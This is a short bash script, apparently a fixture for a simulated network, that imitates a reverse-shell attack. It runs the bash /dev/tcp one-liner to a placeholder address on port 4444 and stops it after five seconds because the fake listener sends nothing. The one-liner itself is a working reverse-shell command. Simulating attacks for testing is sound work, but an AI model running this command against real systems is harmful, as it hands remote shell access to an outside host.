#!/bin/bash
# Imitates the bash /dev/tcp reverse shell one-liner. The fake internet's listener never sends commands,
# so the interactive shell is stopped after a few seconds.
timeout 5 bash -c 'bash -i >& /dev/tcp/203.0.113.44/4444 0>&1'
exit 0
